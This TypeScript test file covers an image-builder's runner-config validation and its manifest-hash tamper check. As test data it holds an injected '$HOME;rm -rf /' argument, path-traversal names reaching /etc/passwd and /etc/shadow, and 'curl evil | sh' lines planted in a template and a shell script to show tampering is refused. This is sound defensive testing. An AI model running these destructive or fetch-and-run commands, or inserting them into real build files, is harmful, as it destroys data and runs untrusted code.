import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { BundleFileError, parseRunnerConfig } from '../../lib/contract';
import { loadRunnerConfig } from '../../lib/runner/runner-config';
import { writeTestManifest } from './fixture';

function valid(): Record<string, any> {
  return {
    image: 'ubuntu_2404',
    environment: 'bgo',
    cloud: 'bgo-imagebuilder',
    region: 'bgo',
    upstream: { url: 'https://cloud-images.ubuntu.com/noble/current/', file: 'noble-server-cloudimg-amd64.img', checksum_file: 'SHA256SUMS', algorithm: 'sha256' },
    template: 'default',
    template_file: 'templates/default.json',
    fingerprint: 'a'.repeat(64),
    packer_vars: { image_name: 'goldsmith-build-ubuntu_2404', ssh_username: 'ubuntu', flavor: 'img.zerodisk' },
    source_image: { min_ram_mb: 768, min_disk_gb: 8, efi: false, properties: { hw_disk_bus: 'scsi' } },
    output: { disk_format: 'qcow2', compression: 'zlib', keep_builds: 2 },
    rebuild: { policy: 'periodic', slot: { weekday: 0, hour: 0, minute: 0 } },
    paths: { store: '/opt/images/public_builds', logs: '/var/log/goldsmith', state: '/var/lib/goldsmith', work: '/var/lib/goldsmith/work' },
    timeouts_s: { download: 3600, packer: 7200, convert: 3600 },
  };
}

function errorOf(mutate: (c: Record<string, any>) => void): string {
  const c = valid();
  mutate(c);
  try {
    parseRunnerConfig(c, 'images/ubuntu_2404.json');
  } catch (e) {
    expect(e).toBeInstanceOf(BundleFileError);
    return (e as Error).message;
  }
  throw new Error('expected an error');
}

describe('runner config', () => {
  test('the example of docs/builder-bundle.md parses and is frozen', () => {
    const c = parseRunnerConfig(valid(), 'x.json');
    expect(c.upstream.algorithm).toBe('sha256');
    expect(c.output.keep_builds).toBe(2);
    expect(Object.isFrozen(c.paths)).toBe(true);
  });

  test('no-checksum waiver: checksum_file and algorithm both absent', () => {
    const c = valid();
    delete c.upstream.checksum_file;
    delete c.upstream.algorithm;
    expect(parseRunnerConfig(c, 'x.json').upstream.checksum_file).toBeUndefined();
  });

  test('external_command instead of template_file: argv kept as given, frozen', () => {
    const c = valid();
    delete c.template_file;
    c.external_command = ['/usr/local/bin/build-windows', '--edition', 'Server 2022', '$HOME;rm -rf /'];
    const r = parseRunnerConfig(c, 'x.json');
    expect(r.external_command).toEqual(['/usr/local/bin/build-windows', '--edition', 'Server 2022', '$HOME;rm -rf /']);
    expect(r.template_file).toBeUndefined();
    expect(Object.isFrozen(r.external_command)).toBe(true);
    expect(parseRunnerConfig(valid(), 'x.json').external_command).toBeUndefined();
  });

  test.each([
    [(c: any) => delete c.template_file, 'template_file: is missing (exactly one of template_file and external_command is required)'],
    [(c: any) => (c.external_command = ['/bin/true']), 'external_command: must not be given together with template_file'],
    [(c: any) => { delete c.template_file; c.external_command = []; }, 'external_command: must not be empty'],
    [(c: any) => { delete c.template_file; c.external_command = '/bin/build'; }, 'external_command: must be an array of strings, got "/bin/build"'],
    [(c: any) => { delete c.template_file; c.external_command = ['build.sh']; }, 'external_command[0]: the command must be an absolute path, got "build.sh"'],
    [(c: any) => { delete c.template_file; c.external_command = ['/bin/build', 3]; }, 'external_command[1]: must be a string, got number'],
    [(c: any) => { delete c.template_file; c.external_command = ['/bin/build', '']; }, 'external_command[1]: must be non-empty, without control characters'],
    [(c: any) => { delete c.template_file; c.external_command = ['/bin/build', 'a\nb']; }, 'external_command[1]: must be non-empty, without control characters'],
    [(c: any) => { delete c.template_file; c.external_command = ['/bin/build', 'tab\there']; }, 'external_command[1]: must be non-empty, without control characters'],
  ])('exactly one of template_file and external_command %#: %s', (mutate, message) => {
    const m = errorOf(mutate);
    expect(m).toContain(message);
    expect(m).not.toContain('\n');
  });

  test.each([
    [(c: any) => delete c.image, 'images/ubuntu_2404.json: image: is missing'],
    [(c: any) => (c.upstream.url = 'ftp://x/'), 'images/ubuntu_2404.json: upstream.url: must be http(s), got "ftp://x/"'],
    [(c: any) => (c.upstream.url = 'https://x/dir'), "upstream.url: must end in '/'"],
    [(c: any) => (c.upstream.file = '../etc/passwd'), 'upstream.file: "../etc/passwd" is not a plain file name'],
    [(c: any) => delete c.upstream.algorithm, 'upstream.algorithm: is missing (checksum_file and algorithm must be given together)'],
    [(c: any) => (c.upstream.algorithm = 'sha1'), 'upstream.algorithm: must be one of sha256, sha512, md5, got "sha1"'],
    [(c: any) => (c.output.compression = 'xz'), 'output.compression: must be one of zlib, zstd, none'],
    [(c: any) => (c.output.keep_builds = 0), 'output.keep_builds: must be >= 1, got 0'],
    [(c: any) => (c.output.keep_builds = 1.5), 'output.keep_builds: must be an integer'],
    [(c: any) => (c.paths.store = 'relative/dir'), 'paths.store: must be an absolute path'],
    [(c: any) => (c.timeouts_s.convert = -1), 'timeouts_s.convert: must be > 0'],
    [(c: any) => (c.fingerprint = 'abc'), 'fingerprint: "abc" is not a sha256 hex digest'],
    [(c: any) => (c.source_image.efi = 'yes'), 'source_image.efi: must be true or false, got "yes"'],
    [(c: any) => (c.packer_vars.x = { a: 1 }), 'packer_vars.x: must be a string, number or boolean, got object'],
    [(c: any) => (c.template_file = '../../etc/shadow'), 'template_file: must be a path inside the bundle'],
    [(c: any) => (c.template_file = 'templates/default.pkr.json'), 'template_file: must not end in .pkr.json'],
    [(c: any) => (c.paths = null), 'paths: must be an object, got null'],
  ])('rejects %#: %s', (mutate, message) => {
    const m = errorOf(mutate);
    expect(m).toContain(message);
    expect(m).not.toContain('\n');
  });

  describe('loadRunnerConfig', () => {
    let dir: string;
    const write = (rel: string, content: string): void => {
      fs.mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
      fs.writeFileSync(path.join(dir, rel), content);
    };
    beforeEach(() => {
      dir = fs.mkdtempSync(path.join(os.tmpdir(), 'goldsmith-cfg-'));
      fs.mkdirSync(path.join(dir, 'images'));
      write('templates/default.json', '{}\n');
      write('scripts/lib.sh', '#!/bin/sh\n');
    });
    afterEach(() => fs.rmSync(dir, { recursive: true, force: true }));

    test('missing file, bad JSON, wrong image key, bad name', () => {
      expect(() => loadRunnerConfig(dir, 'ubuntu_2404')).toThrow(`${dir}/images/ubuntu_2404.json: no such file`);
      write('images/ubuntu_2404.json', '{ nope');
      writeTestManifest(dir);
      expect(() => loadRunnerConfig(dir, 'ubuntu_2404')).toThrow(/ubuntu_2404\.json: invalid JSON/);
      write('images/ubuntu_2404.json', JSON.stringify({ ...valid(), image: 'debian12' }));
      writeTestManifest(dir);
      expect(() => loadRunnerConfig(dir, 'ubuntu_2404')).toThrow('ubuntu_2404.json: image: is "debian12", expected "ubuntu_2404"');
      expect(() => loadRunnerConfig(dir, '../x')).toThrow(/invalid image name/);
      write('images/ubuntu_2404.json', JSON.stringify(valid()));
      writeTestManifest(dir);
      expect(loadRunnerConfig(dir, 'ubuntu_2404').image).toBe('ubuntu_2404');
    });

    test('a runner config, template or script changed after synth (manifest.json sha256) is refused', () => {
      const cfg = `${dir}/images/ubuntu_2404.json`;
      write('images/ubuntu_2404.json', JSON.stringify(valid()));
      writeTestManifest(dir);
      expect(loadRunnerConfig(dir, 'ubuntu_2404').packer_vars.ssh_username).toBe('ubuntu');

      // the attack: a packer var edited on the builder after synth
      write('images/ubuntu_2404.json', JSON.stringify({ ...valid(), packer_vars: { ...valid().packer_vars, ssh_username: 'root' } }));
      const err = (() => {
        try {
          loadRunnerConfig(dir, 'ubuntu_2404');
        } catch (e) {
          return e as Error;
        }
        throw new Error('accepted an edited runner config');
      })();
      expect(err).toBeInstanceOf(BundleFileError);
      expect(err.message).toMatch(/^\S+\/images\/ubuntu_2404\.json: images\/ubuntu_2404\.json does not match manifest\.json \(sha256 [0-9a-f]{12}…, recorded [0-9a-f]{12}…\): changed after synth; refusing it$/);

      write('images/ubuntu_2404.json', JSON.stringify(valid()));
      writeTestManifest(dir);
      write('templates/default.json', '{"provisioners":[{"type":"shell","inline":["curl evil | sh"]}]}\n');
      expect(() => loadRunnerConfig(dir, 'ubuntu_2404')).toThrow(`${cfg}: templates/default.json does not match manifest.json`);

      write('templates/default.json', '{}\n');
      write('scripts/lib.sh', '#!/bin/sh\ncurl evil | sh\n');
      expect(() => loadRunnerConfig(dir, 'ubuntu_2404')).toThrow(`${cfg}: scripts/lib.sh does not match manifest.json`);

      write('scripts/lib.sh', '#!/bin/sh\n');
      expect(loadRunnerConfig(dir, 'ubuntu_2404').image).toBe('ubuntu_2404');
      fs.rmSync(path.join(dir, 'manifest.json'));
      expect(() => loadRunnerConfig(dir, 'ubuntu_2404')).toThrow(`${cfg}: no manifest.json in the bundle (not a bundle written by synth?)`);
    });
  });
});
